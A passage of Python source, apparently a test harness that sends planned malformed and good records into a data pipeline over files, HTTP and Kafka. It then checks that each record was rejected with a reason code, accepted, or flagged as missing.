                figures.good_lost += 1
                figures.examples.append(f"{probe.way}: a good record's case missing")
            if probe.location and _take(found, probe) is not None:
                figures.examples.append(f"{probe.way}: a good record in the rejects")
            continue
        figures.sent[probe.way] += 1
        figures.kinds[probe.kind] += 1
        figures.way_kinds[f"{probe.way} {probe.kind}"] += 1
        if probe.door:
            figures.at_door += 1
            figures.reason_codes[probe.door] += 1
            continue
        entry = _take(found, probe) if probe.location else None
        if entry is None:
            figures.unaccounted += 1
            figures.examples.append(f"{probe.way} {probe.kind}: not in the rejects")
            continue
        if not (entry.get("reason_code") and entry.get("reason")):
            figures.reasonless += 1
        figures.in_rejects += 1
        figures.reason_codes[entry["reason_code"]] += 1
    everyone = set().union(*shared.values()) if shared else set()
    figures.bad_shared = len(everyone - good_keys)


def _take(found: dict[str, list[dict[str, Any]]], probe: Probe) -> dict[str, Any] | None:
    """The rejects entry of this probe (removed, so two probes never share one)."""
    entries = found.get(probe.location or "", [])
    for index, entry in enumerate(entries):
        if probe.original is None or entry["original"] == probe.original[:MAX_ORIGINAL_BYTES]:
            return entries.pop(index)
    return None


# --- the campaign ------------------------------------------------------------------------


def run_campaign(
    settings: Settings,
    *,
    records_count: int = 100_000,
    seed: int = 2020,
    good_per_way: int | None = None,
    keep_topics: bool = False,
    timeout_s: float = 1800.0,
    echo: Echo = lambda line: None,
) -> Figures:
    began = time.monotonic()
    settings = with_campaign_key(settings, echo)
    secret = settings.require_pseudonym_key()
    good = good_per_way or max(10, min(200, records_count // 500))
    probes = plan(records_count, good, seed)
    figures = Figures(seed, records_count)
    echo(f"planned {len(probes)} records ({good} good per way in)")
    with deployment(settings, "b", keep=keep_topics) as scoped:
        folder = settings.state_dir / "campaign" / f"bad-input-{scoped.topic_prefix.rstrip('.')}"
        private_dir(folder)
        worker = processes.spawn_worker(scoped, folder / "worker.log")
        try:
            publish_files(scoped, probes, folder, figures, echo)
            post_http(scoped, probes, folder, figures, echo)
            send_kafka(scoped, probes, figures, echo)
            try:
                processes.wait_until_caught_up(scoped, timeout_s, workers=[worker])
            except InfrastructureError as exc:
                figures.crashes.append(str(exc)[:300])
            if worker.poll() is not None:
                figures.crashes.append(f"the worker exited with code {worker.returncode}")
        finally:
            processes.stop_worker(worker)
        log_text = (folder / "worker.log").read_text(errors="replace")
        figures.worker_tracebacks = log_text.count("Traceback")
        echo("accounting for every record")
        account(scoped, probes, figures, secret)
    figures.seconds = time.monotonic() - began
    return figures
